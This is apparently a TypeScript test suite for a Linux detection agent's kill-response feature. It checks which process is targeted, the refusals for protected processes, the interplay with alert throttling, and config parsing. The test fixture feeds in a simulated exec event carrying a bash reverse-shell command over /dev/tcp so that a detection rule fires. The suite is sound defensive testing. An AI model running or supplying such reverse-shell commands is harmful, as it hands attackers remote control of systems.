/**
 * The opt-in kill response: which process a rule's action names, what is never killed, and what
 * reaches the alert, through the engine with a recording kill (no process is signalled here; the
 * native pidfd kill has its own kernel test).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AlertThrottle } from '../../src/alerts/index.js';
import { Engine, type EngineEmitter } from '../../src/agent/engine.js';
import { resolveConfig } from '../../src/agent/config.js';
import type { RawEvent } from '../../src/capture/raw-event.js';
import { ProcessEventStream } from '../../src/ecs/index.js';
import { SEED_RULE_ID } from '../../src/lab/rule-ids.js';
import { FixtureProcFs } from '../../src/process/index.js';
import type { ProcessEntry } from '../../src/process/process-table.js';
import { Responder, type NativeKillOutcome, type ResponseConfig } from '../../src/response/kill-response.js';
import { loadRuleSet } from '../../src/rules/index.js';
import type { RuleMatch } from '../../src/rules/rule-set.js';
import type { LoadedRule } from '../../src/rules/rule-types.js';
import { execEvent, forkEvent, SteppedClock } from '../process/raw-events.js';
import { HOST, snapshot } from '../agent/engine-fixtures.js';
import { makeProcTree, removeTree, writeProcess } from '../process/proc-tree.js';

function collector(): EngineEmitter & { alerts: Record<string, unknown>[] } {
  const alerts: Record<string, unknown>[] = [];
  return { alerts, event: () => {}, alert: (d) => alerts.push(d as unknown as Record<string, unknown>) };
}

const launch = (child: number): RawEvent[] => [
  forkEvent(100, child),
  execEvent(child, snapshot(['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], '/usr/bin/setsid', 100, child)),
];

describe('kill response', () => {
  let root: string;
  beforeAll(() => {
    root = makeProcTree();
    writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 1 });
    writeProcess(root, { pid: 100, ppid: 1, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', startTicks: 900 });
  });
  afterAll(() => removeTree(root));

  async function setup(config: Partial<ResponseConfig>, outcome: NativeKillOutcome = 'killed', selfPid = 4242) {
    const clock = new SteppedClock();
    const { ruleSet } = await loadRuleSet();
    if (ruleSet === null) throw new Error('bundled rules failed to load');
    const stream = new ProcessEventStream({ procfs: new FixtureProcFs(root), host: HOST, clock });
    stream.seed();
    const kills: { pid: number; startTicks: number }[] = [];
    const responder = new Responder(
      { killProcess: true, killRules: [], neverKill: [], ...config },
      { lookup: (pid) => stream.lookup(pid), kill: (pid, startTicks) => (kills.push({ pid, startTicks }), { outcome, errno: 0 }), clock, selfPid },
    );
    const engine = new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 1 }), clock, emitEvents: false, responder });
    return { engine, kills, responder, stream, clock };
  }

  it('kills the process of a rule on [response] kill_rules, by pid and start time, and records it on the alert', async () => {
    const { engine, kills, responder } = await setup({ killRules: [SEED_RULE_ID] });
    const out = collector();
    engine.handleBatch(launch(200), out);
    const alert = out.alerts.find((a) => (a.rule as { id: string }).id === SEED_RULE_ID)!;
    expect(kills).toEqual([{ pid: 200, startTicks: 5200 }]);
    const response = (alert.execwarden as { response: unknown[] }).response;
    expect(response).toEqual([
      {
        action: 'kill_process',
        field: 'process.entity_id',
        state: 0,
        target: { pid: 200, entity_id: (alert.process as { entity_id: string }).entity_id, executable: '/usr/bin/setsid' },
        result: 'killed',
        '@timestamp': new Date(1_800_000_000_000).toISOString(),
      },
    ]);
    expect(responder.stats()).toEqual({ attempts: 1, byResult: { killed: 1 } });
  });

  it('kills even when flood control holds the alert back', async () => {
    const { engine, kills } = await setup({ killRules: [SEED_RULE_ID] });
    const out = collector();
    engine.handleBatch([...launch(200), ...launch(201)], out);
    expect(out.alerts.filter((a) => (a.rule as { id: string }).id === SEED_RULE_ID)).toHaveLength(1);
    expect(kills.map((k) => k.pid)).toEqual([200, 201]);
  });

  it('kills nothing for rules that ask for nothing', async () => {
    const { engine, kills } = await setup({});
    const out = collector();
    engine.handleBatch(launch(200), out);
    expect(out.alerts.length).toBeGreaterThan(0);
    expect(kills).toEqual([]);
    for (const alert of out.alerts) expect((alert.execwarden as Record<string, unknown> | undefined)?.response).toBeUndefined();
  });

  it('never kills an executable on never_kill, the agent itself, or what the kernel says was reused', async () => {
    const protectedExe = await setup({ killRules: [SEED_RULE_ID], neverKill: ['/usr/bin/setsid'] });
    let out = collector();
    protectedExe.engine.handleBatch(launch(200), out);
    expect(protectedExe.kills).toEqual([]);
    expect(out.alerts.flatMap((a) => (a.execwarden as { response?: { result: string; reason: string }[] }).response ?? [])).toEqual([
      expect.objectContaining({ result: 'refused', reason: '/usr/bin/setsid is on [response] never_kill' }),
    ]);

    const self = await setup({ killRules: [SEED_RULE_ID] }, 'killed', 200);
    out = collector();
    self.engine.handleBatch(launch(200), out);
    expect(self.kills).toEqual([]);
    expect(JSON.stringify(out.alerts)).toContain('the agent itself is never killed');

    const reused = await setup({ killRules: [SEED_RULE_ID] }, 'pid_reused');
    out = collector();
    reused.engine.handleBatch(launch(200), out);
    expect(JSON.stringify(out.alerts)).toContain('"result":"pid_reused","reason":"the pid now belongs to another process"');
  });

  describe('on a match built by hand', () => {
    const clock = new SteppedClock();
    const entry = (pid: number, over: Partial<ProcessEntry> = {}): ProcessEntry =>
      ({ pid, ppid: 100, entityId: `e${pid}`, startTicks: 7000 + pid, startEstimated: false, exitedAtMs: null, image: { executable: '/usr/bin/bash' }, ...over }) as ProcessEntry;
    const table = new Map<number, ProcessEntry>([
      [300, entry(300)],
      [301, entry(301)],
      [302, entry(302, { startEstimated: true })],
      [303, entry(303, { ppid: 2 })],
      [304, entry(304, { exitedAtMs: 1 })],
    ]);
    const kills: number[] = [];
    const responder = new Responder(
      { killProcess: true, killRules: [], neverKill: [] },
      { lookup: (pid) => table.get(pid), kill: (pid) => (kills.push(pid), { outcome: 'killed', errno: 0 }), clock, selfPid: 1 },
    );
    const event = (pid: number, parent = 0) => ({ process: { pid, entity_id: `e${pid}`, parent: { pid: parent, entity_id: `e${parent}` } } });
    const match = (actions: LoadedRule['actions'], events: Record<string, unknown>[]): RuleMatch =>
      ({ rule: { ruleId: 'r', actions } as LoadedRule, kind: events.length > 1 ? 'sequence' : 'event', events, joinKeys: [] }) as RuleMatch;
    const results = (m: RuleMatch) => responder.respond(m).map((o) => [o.result, o.reason, o.target?.pid]);

    it("follows a Defend action's field and stage: the parent of stage 1's process", () => {
      kills.length = 0;
      expect(results(match([{ action: 'kill_process', field: 'process.parent.entity_id', state: 1 }], [event(999), event(350, 301)]))).toEqual([['killed', undefined, 301]]);
      expect(kills).toEqual([301]);
    });

    it('refuses pid 1 and 2, kernel threads and a start time that was only estimated; an exited process is gone', () => {
      kills.length = 0;
      const kill = (pid: number) => results(match([{ action: 'kill_process', field: 'process.entity_id', state: 0 }], [event(pid)]))[0];
      expect(kill(1)).toEqual(['refused', 'pid 1 is never killed', 1]);
      expect(kill(2)).toEqual(['refused', 'pid 2 is never killed', 2]);
      expect(kill(303)).toEqual(['refused', 'kernel threads are never killed', 303]);
      expect(kill(302)![0]).toBe('refused');
      expect(kill(304)).toEqual(['gone', 'the process has exited', 304]);
      expect(kill(305)).toEqual(['gone', 'the process has exited', 305]);
      expect(kills).toEqual([]);
    });

    it('with onlyWithEnv (the lab), kills only a process whose event carries the variable', () => {
      const labKills: number[] = [];
      const lab = new Responder(
        { killProcess: true, killRules: [], neverKill: [], onlyWithEnv: 'LAB_MARK' },
        { lookup: (pid) => table.get(pid), kill: (pid) => (labKills.push(pid), { outcome: 'killed', errno: 0 }), clock, selfPid: 1 },
      );
      const action = [{ action: 'kill_process', field: 'process.entity_id', state: 0 }];
      const marked = { process: { ...event(300).process, env_vars: ['PATH=/bin', 'LAB_MARK=lab-x-1'] } };
      const other = { process: { ...event(301).process, env_vars: ['LAB_MARKER=no'] } };
      expect(lab.respond(match(action, [marked])).map((o) => o.result)).toEqual(['killed']);
      expect(lab.respond(match(action, [other]))[0]).toMatchObject({ result: 'refused', reason: 'not a process of this run (no LAB_MARK in its environment)' });
      expect(lab.respond(match([{ action: 'kill_process', field: 'process.parent.entity_id', state: 0 }], [event(350, 301)]))[0]!.result).toBe('refused');
      expect(labKills).toEqual([300]);
    });

    it('performs only kill_process, and says why it cannot act on a stage or field that is not there', () => {
      expect(results(match([{ action: 'isolate_host', field: 'process.entity_id', state: 0 }], [event(300)]))[0]![0]).toBe('unsupported');
      expect(results(match([{ action: 'kill_process', field: 'process.entity_id', state: 3 }], [event(300)]))[0]).toEqual(['failed', 'the match has no stage 3', undefined]);
      expect(results(match([{ action: 'kill_process', field: 'user.id', state: 0 }], [event(300)]))[0]![0]).toBe('failed');
    });
  });

  it('is off by default and read from [response]', () => {
    expect(resolveConfig({}, null).response).toEqual({ killProcess: false, killRules: [], neverKill: [] });
    expect(resolveConfig({ response: { kill_process: true, kill_rules: [SEED_RULE_ID], never_kill: ['/usr/sbin/sshd'] } }, null).response).toEqual({
      killProcess: true,
      killRules: [SEED_RULE_ID],
      neverKill: ['/usr/sbin/sshd'],
    });
    expect(() => resolveConfig({ response: { never_kill: ['sshd'] } }, 'c.toml')).toThrow(/response.never_kill: "sshd" is not an absolute executable path/);
    expect(() => resolveConfig({ response: { kill: true } }, 'c.toml')).toThrow(/response.kill/);
  });
});
